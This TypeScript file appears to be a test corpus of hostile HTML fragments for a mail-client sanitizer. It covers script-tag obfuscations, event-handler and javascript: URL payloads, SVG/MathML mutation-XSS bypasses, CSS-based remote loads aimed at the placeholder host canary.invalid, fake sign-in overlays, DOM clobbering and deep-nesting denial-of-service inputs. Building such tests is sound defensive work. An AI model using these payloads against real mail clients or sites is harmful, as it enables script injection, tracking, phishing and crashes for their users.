// Hostile mail, in our own words, after public research on mail clients: each fragment tries to run `ran()`,
// to reach the host `canary.invalid`, to leave its box, or to be read differently the second time.

import { far, type Hostile, js, lines } from './cases'
import { knownFlaws } from './known-flaws'

const scripts = lines(
  'script element',
  `
  <script>{js}</script>
  <SCRIPT>{js}</SCRIPT>
  <script src="{far}.js"></script>
  <script type="module">{js}</script>
  <scr<script>ipt>{js}</scr</script>ipt>
  <script\\n>{js}</script\\n>
  <script/x>{js}</script>
  <script>{js}
  <script>//</script><script>{js}</script>
  <noscript><p title="</noscript><script>{js}</script>">
  <script><!--\\n{js}\\n//--></script>
  <script>{js}<!-- <script> --></script>
  <<script>{js}//<</script>
  <script\\0>{js}</script>
  <template><script>{js}</script></template>
  <xmp><script>{js}</script></xmp>
  <plaintext><script>{js}</script>
  <textarea><script>{js}</script></textarea>
  <textarea></textarea><script>{js}</script>
  <title><script>{js}</script></title><script>{js}</script>
  <title></title><img src=x onerror="{js}">
  <noembed><img src=x onerror="{js}"></noembed>
  <noframes><img src=x onerror="{js}"></noframes>
  <iframe><img src=x onerror="{js}"></iframe>
  <select><template><img src=x onerror="{js}"></template></select>
  <table><script>{js}</script></table>
  <p><script>{js}</p></script>
  <!DOCTYPE html [<!ENTITY x "<script>{js}</script>">]>&x;
  <?xml version="1.0"?><script>{js}</script>
  <?php echo '<script>{js}</script>' ?>
  <![CDATA[<script>{js}</script>]]>
  <!--><script>{js}</script>-->
  <!---><img src=x onerror="{js}">-->
  <!--[if gte IE 4]><script>{js}</script><![endif]-->
  <![if gte IE 4]><script>{js}</script><![endif]>
  <!-- --!><img src=x onerror="{js}"> -->
  <!-- > <img src=x onerror="{js}"> -->
  <comment><img src=x onerror="{js}"></comment>`,
)

const handlers = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'ontoggle', 'onbegin', 'onpointerenter', 'onpointerover', 'onscroll', 'onscrollend',
  'oncopy', 'onpaste', 'onwheel', 'oncontentvisibilityautostatechange', 'onbeforetoggle', 'onsecuritypolicyviolation',
  'onformdata', 'onbeforeinput', 'onauxclick', 'onpageshow', 'onhashchange', 'onmessage', 'onbeforeprint',
] // prettier-ignore
const handlerFragments: Hostile[] = handlers.flatMap((handler) => [
  { name: `${handler} on an image`, html: `<img src=x ${handler}="${js}">` },
  {
    name: `${handler} on a box`,
    html: `<div tabindex=0 autofocus ${handler}='${js}' style="animation:a 1s">x</div>`,
  },
])

const separators = ['/', '\n', '\f', '\t', '\r', '"', "'", '\u00a0', '\u000b', '=', '`', '\u0000']
const separatorFragments: Hostile[] = separators.map((mark, at) => ({
  name: `attribute separator ${at + 1}`,
  html: `<img src=x${mark}onerror="${js}"><a${mark}href="javascript:${js}">x</a>`,
}))

const links = lines(
  'link',
  `
  <a href="javascript:{js}">x</a>
  <a href="JaVaScRiPt:{js}">x</a>
  <a href=" javascript:{js}">x</a>
  <a href="java\\nscript:{js}">x</a>
  <a href="java&Tab;script:{js}">x</a>
  <a href="javascript&colon;{js}">x</a>
  <a href="&#106;avascript:{js}">x</a>
  <a href="&#x6A;avascript:{js}">x</a>
  <a href="&#0000106avascript:{js}">x</a>
  <a href="\\0javascript:{js}">x</a>
  <a href="\u0001javascript:{js}">x</a>
  <a href="javascript://canary.invalid/%0a{js}">x</a>
  <a href="vbscript:{js}">x</a>
  <a href="data:text/html,<script>{js}</script>">x</a>
  <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
  <a href="blob:{far}">x</a>
  <a href="filesystem:{far}">x</a>
  <a href="file:///etc/passwd">x</a>
  <a href="view-source:javascript:{js}">x</a>
  <a href="jar:{far}!/">x</a>
  <a href="feed:javascript:{js}">x</a>
  <a href="intent://x#Intent;scheme=javascript;end">x</a>
  <a href="/api/session" ping="{far}">x</a>
  <a href="https://example.org" ping="{far}">x</a>
  <a href="https://example.org" target="_self">x</a>
  <a href="https://example.org" target="_top">x</a>
  <a href="https://example.org" download="x.exe">x</a>
  <a href="https://user:password@example.org/">x</a>
  <a xlink:href="javascript:{js}">x</a>
  <a formaction="javascript:{js}">x</a>
  <map name=m><area shape=default href="javascript:{js}"></map><img usemap=#m src=x>
  <map name=m><area shape=default href="{far}" target=_top></map>
  <base href="javascript:{js}//"><a href="x">x</a>
  <base href="{far}/"><img src=y>
  <link rel=stylesheet href="{far}.css">
  <link rel=import href="{far}">
  <link rel=dns-prefetch href="//canary.invalid">
  <link rel=preconnect href="//canary.invalid">
  <link rel=prefetch href="{far}">
  <link rel=preload as=image href="{far}">
  <link rel=modulepreload href="{far}">
  <link rel="shortcut icon" href="{far}">
  <meta http-equiv=refresh content="0;url=javascript:{js}">
  <meta http-equiv=refresh content="0;url={far}">
  <meta http-equiv="refresh" content="0; url=data:text/html,<script>{js}</script>">
  <meta http-equiv=set-cookie content="a=b">
  <meta http-equiv="Content-Security-Policy" content="img-src *">
  <meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-
  <meta name=referrer content=unsafe-url>`,
)

const loads = lines(
  'load',
  `
  <img src="{far}.png">
  <img src="//canary.invalid/x.png">
  <img src="\\\\\\\\canary.invalid\\\\x.png">
  <img src="/\\\\canary.invalid/x.png">
  <img src="https:/canary.invalid/x.png">
  <img src="https:canary.invalid/x.png">
  <img src=" {far}">
  <img src="ht\\ntps://canary.invalid/x.png">
  <img srcset="{far} 1x, {far} 2x">
  <img src=x srcset="{far} 9999w" sizes=100vw>
  <img lowsrc="{far}" dynsrc="{far}">
  <img longdesc="{far}" src=x>
  <img src="ftp://canary.invalid/x">
  <img loading=eager crossorigin src="{far}">
  <picture><source srcset="{far}"><img src=x></picture>
  <image src="{far}">
  <image xlink:href="{far}">
  <input type=image src="{far}">
  <video src="{far}" poster="{far}" autoplay></video>
  <video><source src="{far}" onerror="{js}"></video>
  <audio src="{far}" autoplay></audio>
  <track src="{far}">
  <embed src="{far}">
  <object data="{far}"></object>
  <object data="javascript:{js}"></object>
  <object type="text/x-scriptlet" data="{far}"></object>
  <applet code="{far}"></applet>
  <iframe src="{far}"></iframe>
  <iframe src="javascript:{js}"></iframe>
  <iframe srcdoc="<script>{js}</script>"></iframe>
  <iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>
  <frameset><frame src="javascript:{js}"></frameset>
  <portal src="{far}"></portal>
  <fencedframe src="{far}"></fencedframe>
  <bgsound src="{far}">
  <body background="{far}">
  <table background="{far}"><tr><td background="{far}">x</table>
  <div background="{far}">x</div>
  <td background="javascript:{js}">
  <isindex action="{far}">
  <html manifest="{far}">
  <math href="javascript:{js}">x</math>
  <q cite="{far}">x</q>
  <del cite="{far}">x</del>
  <blockquote cite="{far}">x</blockquote>
  <button formaction="{far}">x</button>
  <form action="{far}"><input name=x><button>send</button></form>
  <form action="javascript:{js}"><input type=submit autofocus onfocus="{js}"></form>
  <form id=f></form><button form=f formaction="javascript:{js}">x</button>
  <input type=password name=password autofocus>
  <keygen autofocus onfocus="{js}">
  <select autofocus onfocus="{js}"><option>x</select>
  <marquee onstart="{js}" behavior=alternate>x</marquee>
  <details open ontoggle="{js}"><summary>x</summary></details>
  <dialog open onclose="{js}">x</dialog>
  <div popover onbeforetoggle="{js}">x</div>
  <button popovertarget=p>x</button><div popover id=p>covers all</div>
  <menu type=toolbar><button onclick="{js}">x</button></menu>
  <layer src="{far}"></layer>
  <xss onfocus="{js}" autofocus tabindex=1>x</xss>
  <x contenteditable onblur="{js}">x</x>
  <slot name=x onslotchange="{js}"></slot>
  <is-land><template shadowrootmode=open><img src=x onerror="{js}"></template></is-land>
  <div><template shadowrootmode=open><script>{js}</script></template></div>`,
)

const foreign = lines(
  'svg and mathml',
  `
  <svg onload="{js}">
  <svg/onload="{js}">
  <svg><script>{js}</script></svg>
  <svg><script href="{far}.js"/></svg>
  <svg><script xlink:href="data:,{js}"/></svg>
  <svg><a xlink:href="javascript:{js}"><text x=20 y=20>x</text></a></svg>
  <svg><animate onbegin="{js}" attributeName=x dur=1s>
  <svg><animate xlink:href=#a attributeName=href values="javascript:{js}"/><a id=a><text>x</text></a></svg>
  <svg><set attributeName=onmouseover to="{js}"/></svg>
  <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>#x"/></svg>
  <svg><use xlink:href="{far}#x"/></svg>
  <svg><image href="{far}"/></svg>
  <svg><feImage href="{far}"/></svg>
  <svg><foreignObject><iframe srcdoc="<script>{js}</script>"></iframe></foreignObject></svg>
  <svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>
  <svg><style>@import "{far}"</style></svg>
  <svg><style><img src=x onerror="{js}"></style></svg>
  <svg></p><style><a id="</style><img src=x onerror='{js}'>">
  <svg><desc><noscript></desc><img src=x onerror="{js}"></noscript>
  <svg><title><style><img src=x onerror="{js}"></style></title></svg>
  <svg><p><style><g title="</style><img src=x onerror='{js}'>">
  <svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror='{js}'//"></svg>
  <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>{js}</handler></svg>
  <svg><discard onbegin="{js}"/></svg>
  <svg><font-face-uri xlink:href="{far}"/></svg>
  <math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table></mtext></math>
  <math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='{js}'&gt;">
  <math><annotation-xml encoding="text/html"><img src=x onerror="{js}"></annotation-xml></math>
  <math><maction actiontype="statusline#{far}" xlink:href="javascript:{js}">x</maction></math>
  <math><mi xlink:href="data:text/html,<script>{js}</script>">x</mi></math>
  <form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{js}">
  <math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='{js}'>"></style>
  <select><svg><style></select><img src=x onerror="{js}"></style></svg>
  <table><caption><svg><desc><table></caption></table><style><img src=x onerror="{js}"></style>
  <noscript><style></noscript><img src=x onerror="{js}"></style>
  <listing>&lt;img src=x onerror="{js}"&gt;</listing>
  <p id="</p><img src=x onerror='{js}'>">
  <div title="\`\`onmouseover={js}">x</div>
  <img alt="\`><img src=x onerror={js}>" src=x>
  <style><style/><img src=x onerror="{js}">
  <style>*{}</style/><img src=x onerror="{js}">
  <a title="&quot;&gt;&lt;img src=x onerror={js}&gt;">x</a>
  <p title='"><img src=x onerror={js}>'>x</p>
  <b><p><b><p><b><p><script>{js}</script>
  <ruby><rtc><rp><img src=x onerror="{js}"></ruby>
  <object><param name=movie value="{far}"><embed src="{far}"></object>`,
)

const styles = lines(
  'style',
  `
  <style>@import "{far}.css";</style>
  <style>@import url({far}.css);</style>
  <style>@im\\\\port url({far});</style>
  <style>@charset "utf-7"; +AEA-import url({far});</style>
  <style>@font-face{font-family:x;src:url({far})}p{font-family:x}</style><p>x</p>
  <style>@namespace url({far});</style>
  <style>@page{background:url({far})}</style>
  <style>@counter-style x{symbols:url({far})}</style>
  <style>@property --x{syntax:'<url>';initial-value:url({far});inherits:true}</style>
  <style>@layer a{p{background:url({far})}}</style><p>x</p>
  <style>@container (width>0px){p{background:url({far})}}</style><p>x</p>
  <style>@media all{p{background:url({far})}}</style><p>x</p>
  <style>@supports (color:red){p{background:url({far})}}</style><p>x</p>
  <style>@keyframes a{to{background:url({far})}}p{animation:a 1s}</style><p>x</p>
  <style>p{background:url({far})}</style><p>x</p>
  <style>p{background:\\\\75\\\\72\\\\6c({far})}</style><p>x</p>
  <style>p{background:u/**/rl({far})}</style><p>x</p>
  <style>p{background:URL( '{far}' )}</style><p>x</p>
  <style>p{background-image:image-set("{far}" 1x)}</style><p>x</p>
  <style>p{background-image:-webkit-image-set(url({far}) 1x)}</style><p>x</p>
  <style>p{background-image:cross-fade(url({far}),url({far}),50%)}</style><p>x</p>
  <style>p{background-image:image({far})}</style><p>x</p>
  <style>p{background:src("{far}")}</style><p>x</p>
  <style>p{cursor:url({far}),auto}</style><p>x</p>
  <style>p{content:url({far})}</style><p>x</p>
  <style>p::before{content:url({far})}</style><p>x</p>
  <style>ul{list-style:url({far})}</style><ul><li>x</ul>
  <style>ul{list-style-image:url({far})}</style><ul><li>x</ul>
  <style>p{border-image:url({far}) 30}</style><p>x</p>
  <style>p{mask:url({far})}</style><p>x</p>
  <style>p{-webkit-mask-image:url({far})}</style><p>x</p>
  <style>p{filter:url({far}#x)}</style><p>x</p>
  <style>p{clip-path:url({far}#x)}</style><p>x</p>
  <style>p{shape-outside:url({far})}</style><p>x</p>
  <style>p{offset-path:url({far})}</style><p>x</p>
  <style>p{behavior:url({far})}</style><p>x</p>
  <style>p{-moz-binding:url({far}#x)}</style><p>x</p>
  <style>p{width:expression({js})}</style><p>x</p>
  <style>p{background:url("javascript:{js}")}</style><p>x</p>
  <style>p{--x:url({far});background:var(--x)}</style><p>x</p>
  <style>p{background:env(x,url({far}))}</style><p>x</p>
  <style>p{background:attr(title url)}</style><p title="{far}">x</p>
  <style>p{background:element(#x)}</style><p>x</p>
  <style>p{background:paint(x)}</style><p>x</p>
  <style>a:visited{background:url({far})}</style><a href="https://example.org">x</a>
  <style>input[value^=a]{background:url({far})}</style><input value=a>
  <style>p{color:red</style><img src=x onerror="{js}">
  <style></style ><img src=x onerror="{js}">
  <style>a{content:"</style><img src=x onerror='{js}'>"}</style>
  <style>a{content:"\\\\3c/style>\\\\3cimg src=x onerror={js}>"}</style>
  <style>/*</style><img src=x onerror="{js}">*/</style>
  <style><!--</style><img src=x onerror="{js}">--></style>
  <style>p{color:red;}}body{background:url({far})}</style>
  <style>{}*{background:url({far})}</style>
  <style>html{background:url({far})}body{background:url({far})}</style>
  <style>p{background:url(data:image/svg+xml,<svg onload="{js}"/>)}</style><p>x</p>
  <style>p{background:url(data:text/html,<script>{js}</script>)}</style><p>x</p>
  <p style="background:url({far})">x</p>
  <p style="background:url(&quot;{far}&quot;)">x</p>
  <p style="background:ur\\\\6c({far})">x</p>
  <p style="background:\\\\000075rl({far})">x</p>
  <p style="background:url(//canary.invalid/x)">x</p>
  <p style="background:/*x*/url/*x*/({far})">x</p>
  <p style="width:e\\\\78pression({js})">x</p>
  <p style="x:expression({js})">x</p>
  <p style="-o-link:'javascript:{js}';-o-link-source:current">x</p>
  <p style='font-family:"x;background:url({far})'>x</p>
  <p style="color:red;;;;background:url({far})">x</p>
  <p style="{background:url({far})}">x</p>
  <p style="@import '{far}'">x</p>
  <p style="color:red}*{background:url({far})">x</p>
  <p style="background:url({far}">x</p>
  <p style="list-style-image:url({far})">x</p>
  <p style="cursor:url({far})">x</p>
  <p style="border-image-source:url({far})">x</p>`,
)

const overlays = lines(
  'overlay',
  `
  <div style="position:fixed;inset:0;background:red">x</div>
  <div style="position:absolute;top:-9999px">x</div>
  <div style="position:sticky;top:0">x</div>
  <div style="POSITION : fixed">x</div>
  <div style="position:fi\\\\78 ed;top:0">x</div>
  <div style="position:fixed!important">x</div>
  <style>div{position:fixed;inset:0}</style><div>x</div>
  <style>@media screen{div{position:fixed}}</style><div>x</div>
  <div style="z-index:2147483647">x</div>
  <div style="transform:translate(-1000px)">x</div>
  <div style="inset:0">x</div>
  <div class="ph-signature ph-quote">x</div>
  <div id=__next>x</div>
  <form name=body><input name=parentNode></form>
  <img name=getElementById src=x>
  <a id=documentElement name=cookie>x</a>
  <p dir=rtl>\u202emoc.elpmaxe\u202c</p>
  <iframe style="position:fixed;inset:0" srcdoc="fake sign in"></iframe>
  <dialog open style="position:fixed">Sign in</dialog>
  <div style="animation:spin 1s infinite">x</div>
  <div style="transition:all 1s">x</div>
  <div style="content:'fake'">x</div>`,
)

const nested = (count: number, open: string): string => open.repeat(count)
const heavy: Hostile[] = [
  { name: 'very deep', html: `${nested(20_000, '<div>')}<script>${js}</script>` },
  { name: 'very deep in tables', html: `${nested(5000, '<table><tr><td>')}<img src=x onerror="${js}">` },
  { name: 'very deep formatting', html: nested(5000, '<b><i><u>') },
  {
    name: 'many attributes',
    html: `<p ${Array.from({ length: 5000 }, (_, at) => `a${at}=x`).join(' ')} onclick="${js}">x</p>`,
  },
  { name: 'a long attribute', html: `<p title="${'x'.repeat(500_000)}" onclick="${js}">x</p>` },
  { name: 'many selectors', html: `<style>${'a>'.repeat(20_000)}b{color:red}</style><b>x</b>` },
  {
    name: 'nested media',
    html: `<style>${'@media all{'.repeat(500)}p{background:url(${far})}</style><p>x</p>`,
  },
  { name: 'nested functions', html: `<p style="width:${'calc('.repeat(2000)}1px">x</p>` },
  { name: 'an open comment', html: `<!-- ${'-'.repeat(200_000)}<img src=x onerror="${js}">` },
  { name: 'an open tag', html: `<a href="${'x'.repeat(100_000)}` },
  { name: 'ampersands', html: '&'.repeat(200_000) },
  { name: 'entities', html: '&amp;lt;script&amp;gt;'.repeat(2000) },
  { name: 'open angle brackets', html: '<'.repeat(100_000) },
]

export const hostile: readonly Hostile[] = [
  ...knownFlaws,
  ...scripts,
  ...handlerFragments,
  ...separatorFragments,
  ...links,
  ...loads,
  ...foreign,
  ...styles,
  ...overlays,
  ...heavy,
]
